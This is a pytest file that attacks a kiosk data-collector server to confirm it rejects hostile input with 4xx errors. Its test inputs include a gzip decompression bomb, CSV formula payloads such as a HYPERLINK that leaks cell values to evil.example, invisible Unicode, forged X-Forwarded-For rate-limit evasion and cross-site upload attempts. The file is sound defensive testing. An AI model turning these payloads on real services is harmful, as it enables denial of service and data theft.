"""The collector attacked: a gzip bomb on the unauthenticated enrolment route, hostile
values in batches and queries, spreadsheet formulas, code guessing, short admin tokens,
caching of personal answers, CDN scripts. Each attack gets a 4xx with a message (never a
5xx) and the server stays small and responsive. Over real HTTP, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import gzip
import io
import json
import threading
import time
import uuid
from datetime import datetime, timedelta, timezone

import pytest
import requests

from collector_helpers import ADMIN_TOKEN, ENGINES, RunningCollector, open_store
from collector_process import ServerProcess, vm_hwm_mib

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
#: The issue's bomb: 63 MiB of JSON that gzip packs into about 63 KiB.
BOMB_INFLATED = 63 * 1024 * 1024
MEMORY_CEILING_MIB = 300
HEALTHZ_WITHIN_S = 1.0


def _bomb() -> bytes:
    body = b'{"device_id": "kiosk-1", "code": "' + b"A" * (BOMB_INFLATED - 40) + b'"}'
    return gzip.compress(body, compresslevel=9)


def test_four_gzip_bombs_on_enrolment_leave_the_server_small_and_answering(tmp_path):
    bomb = _bomb()
    assert len(bomb) < 100 * 1024  # ~63 KiB on the wire
    answers: list[requests.Response] = []
    with ServerProcess(f"sqlite:///{tmp_path / 'c.db'}", env={"COLLECTOR_ADMIN_TOKEN": ADMIN_TOKEN}) as server:
        def send() -> None:
            answers.append(requests.post(server.url + "/v1/devices", data=bomb, timeout=60, headers={
                "Content-Type": "application/json", "Content-Encoding": "gzip"}))

        senders = [threading.Thread(target=send) for _ in range(4)]
        for t in senders:
            t.start()
        slowest = 0.0
        while any(t.is_alive() for t in senders) or slowest == 0.0:
            t0 = time.monotonic()
            assert requests.get(server.url + "/healthz", timeout=10).status_code == 200
            slowest = max(slowest, time.monotonic() - t0)
            time.sleep(0.05)
        for t in senders:
            t.join()
        peak = max(vm_hwm_mib(pid) for pid in server.pids())
    print(f"server peak {peak:.0f} MiB; slowest /healthz {slowest * 1000:.0f} ms")
    assert peak < MEMORY_CEILING_MIB, f"server peaked at {peak:.0f} MiB"
    assert slowest < HEALTHZ_WITHIN_S, f"/healthz took {slowest:.2f} s during the bombs"
    assert [a.status_code for a in answers] == [413] * 4
    assert all("1024 bytes" in a.json()["detail"] for a in answers)


def test_an_enrolment_body_over_1_kib_is_refused_before_it_is_read(tmp_path):
    with RunningCollector(open_store("sqlite", tmp_path)) as c:
        r = requests.post(c.url + "/v1/devices", json={"device_id": "kiosk-1", "code": "A" * 2000}, timeout=10)
        assert r.status_code == 413 and "1024" in r.json()["detail"]
        c.store.close()


# --- hostile values, over real HTTP on both engines ----------------------------------

@pytest.fixture(scope="module", params=ENGINES)
def served(request, tmp_path_factory):
    store = open_store(request.param, tmp_path_factory.mktemp(request.param))
    collector = RunningCollector(store)
    yield collector
    collector.close()
    store.close()


class Kiosk:
    """A device enrolled at `venue` on the served collector."""

    def __init__(self, collector, venue: str = "V1") -> None:
        self.collector, self.venue = collector, venue
        self.device = "kiosk-" + uuid.uuid4().hex[:8]
        self.token = collector.token(self.device, venue=venue)

    def entry(self, **kw) -> dict:
        return _entry(device_id=self.device, venue_code=self.venue, **kw)

    def batch(self, *entries: dict, **kw) -> bytes:
        return json.dumps({"device_id": self.device, "batch_id": "b-" + uuid.uuid4().hex[:8],
                           "entries": list(entries), **kw}).encode()

    def post(self, raw: bytes) -> requests.Response:
        return requests.post(self.collector.url + "/v1/batches", data=gzip.compress(raw), timeout=30, headers={
            "Authorization": f"Bearer {self.token}", "Content-Type": "application/json",
            "Content-Encoding": "gzip"})


@pytest.fixture
def kiosk(served) -> Kiosk:
    return Kiosk(served)


def _entry(**kw) -> dict:
    e = {"id": str(uuid.uuid4()), "scanned_at": datetime.now(timezone.utc).isoformat(),
         "device_id": "kiosk-1", "venue_code": "V1", "outcome": "pass", "reason": "ok", "scheme": "dcc",
         "subject_hash": None, "name_masked": "Nguyễn V*** A", "personal": None, "sealed": False,
         "override_of": None}
    e.update(kw)
    return e


@pytest.mark.parametrize("value", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00+14:00",
                                   "1970-01-01T00:00:00Z", "2019-12-31T23:59:59Z"])
def test_a_scanned_at_outside_the_sane_window_names_the_entry(kiosk, value):
    good = kiosk.entry()
    r = kiosk.post(kiosk.batch(good, kiosk.entry(scanned_at=value)))
    assert r.status_code == 422
    (err,) = r.json()["detail"]
    assert err["loc"] == ["body", "entries", 1, "scanned_at"] and "outside the window" in err["msg"]
    # The rest of the log still goes through once the kiosk holds that entry back.
    assert kiosk.post(kiosk.batch(good)).json()["accepted"] == 1


def test_a_time_two_days_ahead_is_a_422(kiosk):
    late = (datetime.now(timezone.utc) + timedelta(days=2)).isoformat()
    r = kiosk.post(kiosk.batch(kiosk.entry(scanned_at=late)))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "entries", 0, "scanned_at"]


@pytest.mark.parametrize("escape", [r"\ud800", r"\udfff", r"x\ud83dy"])
def test_a_lone_surrogate_is_a_400_with_the_parsers_words(kiosk, escape):
    raw = kiosk.batch(kiosk.entry()).replace(b'"Nguy\\u1ec5n V*** A"', b'"' + escape.encode() + b'"')
    assert escape.encode() in raw
    r = kiosk.post(raw)
    detail = r.json()["detail"]
    assert r.status_code == 400 and ("surrogate" in detail or "hex escape" in detail), detail


def test_invalid_utf8_is_a_400(kiosk):
    raw = kiosk.batch(kiosk.entry(name_masked="PLACEHOLDER")).replace(b"PLACEHOLDER", b"\xff\xfe")
    r = kiosk.post(raw)
    assert r.status_code == 400 and "JSON" in r.json()["detail"]


@pytest.mark.parametrize("venue", [
    "HOSPITAL\u200b-B",                                  # zero-width space: looks like HOSPITAL-B
    "HOSPITAL\u2060-B", "\ufeffV1", "V1\u202e",          # word joiner, BOM, right-to-left override
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',  # a spreadsheet formula
    "+1", "-1", "@SUM(A1)", "V 1", "V1\t", "-V1", "V" * 65, "",
    "Cha\u0300o",                                        # decomposed (not NFC)
])
def test_a_venue_code_outside_the_strict_pattern_is_a_422(kiosk, venue):
    r = kiosk.post(kiosk.batch(kiosk.entry() | {"venue_code": venue}))
    assert r.status_code == 422
    assert r.json()["detail"][0]["loc"] == ["body", "entries", 0, "venue_code"]


@pytest.mark.parametrize("venue", ["HOSPITAL-B", "Chợ_Bến-Thành-2", "V1"])
def test_venue_codes_of_letters_digits_dash_and_underscore_are_taken(served, venue):
    kiosk = Kiosk(served, venue)
    assert kiosk.post(kiosk.batch(kiosk.entry())).json()["accepted"] == 1


@pytest.mark.parametrize("field, value", [
    ("name_masked", "N" * 201), ("subject_hash", "a" * 129), ("personal", "p" * 16_385),
    ("reason", "r" * 41), ("device_id", "kiosk-1\u200b"),
])
def test_an_oversized_or_invisible_string_is_a_422(kiosk, field, value):
    r = kiosk.post(kiosk.batch(kiosk.entry() | {field: value}))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"][:3] == ["body", "entries", 0]


def test_an_oversized_batch_id_is_a_422(kiosk):
    r = kiosk.post(kiosk.batch(kiosk.entry(), batch_id="b" * 65))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "batch_id"]


@pytest.mark.parametrize("params", [
    {"venue": "V1", "at": "9999-12-31T23:59:59Z"},
    {"venue": "V1", "at": "0001-01-01T00:00:00+14:00"},
    {"venue": "V1", "at": "9999-12-31T23:59:59-14:00"},
    {"venue": "V" * 65, "at": "2026-03-02T09:00:00Z"},
    {"subject_hash": "a" * 129},
])
def test_a_hostile_trace_query_is_a_422(served, params):
    r = requests.get(served.url + "/v1/trace", params=params, headers=ADMIN, timeout=10)
    assert r.status_code == 422 and r.json()["detail"]


def test_reports_and_tracing_are_never_cached(served):
    today = datetime.now(timezone.utc).date().isoformat()
    for path, params in [("/v1/reports/daily.csv", {"date": today}), ("/v1/reports/daily", {"date": today}),
                         ("/v1/trace", {"venue": "V1", "at": datetime.now(timezone.utc).isoformat()})]:
        r = requests.get(served.url + path, params=params, headers=ADMIN, timeout=10)
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store", path
        denied = requests.get(served.url + path, params=params, timeout=10)
        assert denied.status_code == 401 and denied.headers["Cache-Control"] == "no-store", path


def test_no_api_page_loads_scripts_from_a_cdn(served):
    assert requests.get(served.url + "/docs", timeout=10).status_code == 404
    assert requests.get(served.url + "/redoc", timeout=10).status_code == 404
    doc = requests.get(served.url + "/openapi.json", timeout=10)
    assert doc.status_code == 200 and doc.json()["info"]["title"] == "Kiosk collector"


# --- spreadsheet formulas in the daily CSV -------------------------------------------

def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    from collector import report

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1)", "-2+3", "@cmd", "\tV", "\x01V"]
    rows = [{"venue_code": v, "outcome": "pass", "reason": "ok", "hour_local": 8, "n": 1} for v in hostile]
    rows.append({"venue_code": "V1", "outcome": "fail", "reason": "expired", "hour_local": 8, "n": 2})
    parsed = list(csv.reader(io.StringIO(report.to_csv(report.build(datetime(2026, 3, 2).date(), rows)))))
    cells = {row[1] for row in parsed[1:]}
    assert cells == {"'" + v for v in hostile} | {"V1"}
    assert all(not c.startswith(("=", "+", "-", "@")) for row in parsed for c in row if not c.isdigit())


def test_a_formula_venue_stored_before_the_pattern_is_neutralised_in_the_served_csv(tmp_path):
    """Entries stored by an older collector may hold any venue code: the CSV is safe anyway."""
    store = open_store("sqlite", tmp_path)
    at = datetime(2026, 3, 2, 2, 0, tzinfo=timezone.utc)
    store.insert_batch([{**_entry(venue_code='=HYPERLINK("http://evil.example/","x")'), "scanned_at": at}],
                       batch_id="old", now=at)
    with RunningCollector(store) as c:
        body = requests.get(c.url + "/v1/reports/daily.csv", params={"date": "2026-03-02"},
                            headers=ADMIN, timeout=10).text
    store.close()
    assert list(csv.reader(io.StringIO(body)))[1][1] == '\'=HYPERLINK("http://evil.example/","x")'


# --- enrolment: one answer, rate limits in the database --------------------------------

def test_every_bad_code_gets_the_same_answer(tmp_path):
    store = open_store("sqlite", tmp_path)
    now = datetime.now(timezone.utc)
    used = store.create_enrol_code("kiosk-1", now=now)
    store.enrol("kiosk-1", used, now=now)
    expired = store.create_enrol_code("kiosk-1", now=now - timedelta(days=30), ttl=timedelta(days=1))
    others = store.create_enrol_code("kiosk-2", now=now)
    with RunningCollector(store) as c:
        answers = [requests.post(c.url + "/v1/devices", json={"device_id": "kiosk-1", "code": code}, timeout=10)
                   for code in ("NOSUCHCODE", used, expired, others)]
    store.close()
    assert {a.status_code for a in answers} == {401}
    assert len({a.text for a in answers}) == 1


def test_enrolment_is_rate_limited_per_address_across_server_processes(tmp_path):
    """Two collectors on one database (two processes of `serve --workers 2`, or two
    machines) share the limit: the 31st guess from one address is refused by either."""
    from collector.ratelimit import ENROL_PER_ADDRESS

    db = tmp_path / "c.db"
    with ServerProcess(f"sqlite:///{db}", "--workers", "2") as server:
        codes = []
        for i in range(ENROL_PER_ADDRESS + 5):
            codes.append(requests.post(server.url + "/v1/devices", timeout=10, headers={"Connection": "close"},
                                       json={"device_id": f"kiosk-{i}", "code": f"GUESS{i:05d}"}))
        assert len(server.pids()) >= 3  # the supervisor and two workers
    statuses = [r.status_code for r in codes]
    assert statuses[:ENROL_PER_ADDRESS] == [401] * ENROL_PER_ADDRESS
    assert set(statuses[ENROL_PER_ADDRESS:]) == {429}
    assert int(codes[-1].headers["Retry-After"]) > 0


def test_enrolment_is_rate_limited_per_device_id_from_any_address(tmp_path):
    from collector.ratelimit import ENROL_PER_DEVICE

    store = open_store("sqlite", tmp_path)
    code = None
    with RunningCollector(store) as c:
        statuses = [requests.post(c.url + "/v1/devices", json={"device_id": "kiosk-9", "code": f"GUESS{i:05d}"},
                                  timeout=10).status_code for i in range(ENROL_PER_DEVICE + 1)]
        # Even the right code waits now: the guesser cannot tell it worked.
        code = store.create_enrol_code("kiosk-9", now=datetime.now(timezone.utc))
        late = requests.post(c.url + "/v1/devices", json={"device_id": "kiosk-9", "code": code}, timeout=10)
        other = requests.post(c.url + "/v1/devices", json={"device_id": "kiosk-8", "code": "GUESS"}, timeout=10)
    store.close()
    assert statuses == [401] * ENROL_PER_DEVICE + [429]
    assert late.status_code == 429 and other.status_code == 401


# --- the admin token -------------------------------------------------------------------

@pytest.mark.parametrize("token", ["x", "a" * 31])
def test_an_admin_token_under_32_characters_is_a_config_error(tmp_path, token):
    from collector.config import CollectorConfigError, load

    path = tmp_path / "c.toml"
    path.write_text(f'admin_token = "{token}"\n')
    with pytest.raises(CollectorConfigError, match="at least 32"):
        load(path, env={})
    with pytest.raises(CollectorConfigError, match="COLLECTOR_ADMIN_TOKEN"):
        load(None, env={"COLLECTOR_ADMIN_TOKEN": token})
    assert load(None, env={"COLLECTOR_ADMIN_TOKEN": "a" * 32}).admin_token == "a" * 32


# --- publishing: a document a kiosk would refuse is never published ---------------------

def _kiosk_takes(name: str, body: bytes) -> bool:
    """Would a kiosk take this document in (its own parsers, as kiosk.sync.fetcher runs them)?"""
    from kiosk.checks.rules import FETCHED_WHERE, parse_rules_text
    from kiosk.checks.trust import parse_list
    from kiosk.sync.fetcher import parse_denylist

    try:
        {"trust": parse_list, "denylist": parse_denylist,
         "rules": lambda b: parse_rules_text(b.decode("utf-8"), FETCHED_WHERE, None)}[name](body)
    except (ValueError, UnicodeDecodeError):  # TrustError and ConfigError are ValueErrors
        return False
    return True


@pytest.mark.parametrize("name, body", [
    ("trust", b"{}"), ("trust", b"not json"), ("trust", b'{"certificates": 3}'),
    ("rules", b"[]"), ("rules", b'{"doses": 2}'), ("rules", b"\xff"),
    ("denylist", b"{}"), ("denylist", b"not json"), ("denylist", b'["not-hex"]'),
])
def test_put_refuses_a_document_every_kiosk_would_refuse(tmp_path, name, body):
    from collector import cli

    assert not _kiosk_takes(name, body)
    key = tmp_path / "publisher.pem"
    assert cli.main(["publisher-keygen", "--out", str(key), "--db", f"sqlite:///{tmp_path / 'c.db'}"]) == 0
    store = open_store("sqlite", tmp_path)
    with RunningCollector(store, publisher_key_file=str(key)) as c:
        r = requests.put(f"{c.url}/v1/{name}", data=body, timeout=10,
                         headers={**ADMIN, "Content-Type": "application/json"})
        assert 400 <= r.status_code < 500 and r.json()["detail"]
        assert store.document(name) is None
        # What a kiosk takes (empty rules mean the defaults) is published.
        assert _kiosk_takes("rules", b"{}")
        assert requests.put(f"{c.url}/v1/rules", data=b"{}", timeout=10,
                            headers={**ADMIN, "Content-Type": "application/json"}).status_code == 204
    store.close()


def test_a_wrong_method_names_every_method_of_that_path(served):
    r = requests.delete(served.url + "/v1/rules", headers=ADMIN, timeout=10)
    assert r.status_code == 405 and set(r.headers["Allow"].split(", ")) == {"GET", "PUT"}
    r = requests.delete(served.url + "/v1/trace", headers=ADMIN, timeout=10)
    assert r.status_code == 405 and r.headers["Allow"] == "GET"


def test_a_nul_character_is_a_400_not_a_database_error(kiosk, served):
    """PostgreSQL text cannot hold NUL: it must be refused before it reaches the database."""
    r = kiosk.post(kiosk.batch(kiosk.entry(name_masked="Nguy\u0000n")))
    assert r.status_code == 400 and "NUL" in r.json()["detail"]
    r = requests.get(served.url + "/v1/trace", params={"venue": "V\x001", "at": datetime.now(timezone.utc).isoformat()},
                     headers=ADMIN, timeout=10)
    assert r.status_code == 422 and "NUL" in r.json()["detail"][0]["msg"]
    assert kiosk.post(kiosk.batch(kiosk.entry(name_masked="back\\u0000slash"))).status_code == 200  # text, not NUL


def test_no_other_site_can_frame_a_page(served):
    """Issue 23 item 5: a page on another site that frames the report, the roster or the
    form (where the browser attaches the officer's credentials) is refused by the browser."""
    today = datetime.now(timezone.utc).date().isoformat()
    for path, params, headers in [("/v1/reports/daily", {"date": today}, ADMIN), ("/v1/roster", {}, ADMIN),
                                  ("/d", {}, {}), ("/healthz", {}, {})]:
        r = requests.get(served.url + path, params=params, headers=headers, timeout=10)
        assert r.status_code == 200, path
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"], path
        assert r.headers["X-Frame-Options"] == "DENY" and r.headers["X-Content-Type-Options"] == "nosniff", path


_TODAY = datetime.now(timezone.utc).date()
ROSTER_CSV = ("id_number,name,phone,commune,kind,start,end\r\n"
              f"079190000123,Nguyễn Văn A,0901234567,Phường Sài Gòn,home,{_TODAY - timedelta(days=1)},"
              f"{_TODAY + timedelta(days=10)}\r\n").encode()
VENUES_CSV = "venue_code,name,type\r\nCSRF-1,Chợ giả,market\r\n".encode()


def _stored(served) -> tuple[int, bool]:
    roster = requests.get(served.url + "/v1/roster/status", headers=ADMIN, timeout=10).json()
    venues = requests.get(served.url + "/v1/venues", headers=ADMIN, timeout=10).json()["venues"]
    return roster["totals"]["people"], any(v["venue_code"] == "CSRF-1" for v in venues)


@pytest.mark.parametrize("attack", [
    {"Content-Type": "text/plain"},                                        # a plain <form enctype=text/plain>
    {"Content-Type": "text/csv", "Origin": "https://evil.example"},        # another site's fetch
    {"Content-Type": "text/csv", "Sec-Fetch-Site": "cross-site"},          # the browser says so
    {"Content-Type": "text/csv", "Sec-Fetch-Site": "same-site", "Origin": "https://x.collector.example"},
    {"Content-Type": "text/csv", "Origin": "null"},                        # a sandboxed frame
], ids=["text-plain", "other-origin", "cross-site", "sibling-subdomain", "null-origin"])
def test_another_sites_page_cannot_upload_a_roster_or_venues_with_the_officers_credentials(served, attack):
    """Issue 23 item 5 (CSRF): the browser attaches the officer's Basic credentials to a
    request another site's page makes; such a request changes nothing."""
    before = _stored(served)
    for path, body in (("/v1/roster", ROSTER_CSV), ("/v1/venues.csv", VENUES_CSV)):
        r = requests.post(served.url + path, data=body, headers={**ADMIN, **attack}, timeout=10)
        assert r.status_code in (403, 415), (path, r.status_code, r.text)
        assert "text/csv" in r.json()["detail"] or "another site" in r.json()["detail"]
    assert _stored(served) == before


def test_the_officers_own_pages_and_the_cli_can_still_upload(served):
    own = served.url.split("//", 1)[1]
    for headers in ({"Content-Type": "text/csv"},                                       # curl, the CLI
                    {"Content-Type": "text/csv; charset=utf-8", "Origin": served.url,
                     "Sec-Fetch-Site": "same-origin"}):                                 # the roster page's fetch
        for path, body in (("/v1/roster", ROSTER_CSV), ("/v1/venues.csv", VENUES_CSV)):
            r = requests.post(served.url + path, data=body, headers={**ADMIN, **headers}, timeout=10)
            assert r.status_code == 200, r.text
    r = requests.post(served.url + "/v1/venues.csv", data=VENUES_CSV, timeout=10,
                      headers={**ADMIN, "Content-Type": "text/csv", "Origin": f"https://{own}:443".replace(":443", ""),
                               "Host": own})
    assert r.status_code == 200, r.text
    assert _stored(served) == (1, True)


def _guesses(url: str, n: int, forged) -> list[int]:
    return [requests.post(url + "/v1/devices", timeout=10, headers={"X-Forwarded-For": forged(i)},
                          json={"device_id": f"kiosk-{i}", "code": f"GUESS{i:05d}"}).status_code for i in range(n)]


def test_a_forged_x_forwarded_for_does_not_reset_the_enrolment_limit(tmp_path):
    """Issue 23 item 3: behind the README's nginx (a proxy on 127.0.0.1) any client could
    name a fresh address in X-Forwarded-For on every guess. Only configured proxies count."""
    from collector.ratelimit import ENROL_PER_ADDRESS

    store = open_store("sqlite", tmp_path)
    with RunningCollector(store) as c:   # no trusted_proxies: the TCP peer is the client
        statuses = _guesses(c.url, ENROL_PER_ADDRESS + 3, lambda i: f"203.0.113.{i}")
    store.close()
    assert statuses[:ENROL_PER_ADDRESS] == [401] * ENROL_PER_ADDRESS
    assert set(statuses[ENROL_PER_ADDRESS:]) == {429}


def test_behind_a_configured_proxy_each_client_address_has_its_own_limit(tmp_path):
    from collector.config import CollectorConfig, CollectorConfigError
    from collector.ratelimit import ENROL_PER_ADDRESS

    store = open_store("sqlite", tmp_path)
    with RunningCollector(store, trusted_proxies="127.0.0.1") as c:
        # The proxy names the client: two kiosks behind it are two addresses...
        first = _guesses(c.url, ENROL_PER_ADDRESS + 1, lambda i: "198.51.100.7")
        other = _guesses(c.url, 1, lambda i: "198.51.100.8")
    store.close()
    assert first[-1] == 429 and other == [401]
    with pytest.raises(CollectorConfigError, match="trusted_proxies.*not an IP"):
        CollectorConfig(trusted_proxies="nginx.local")
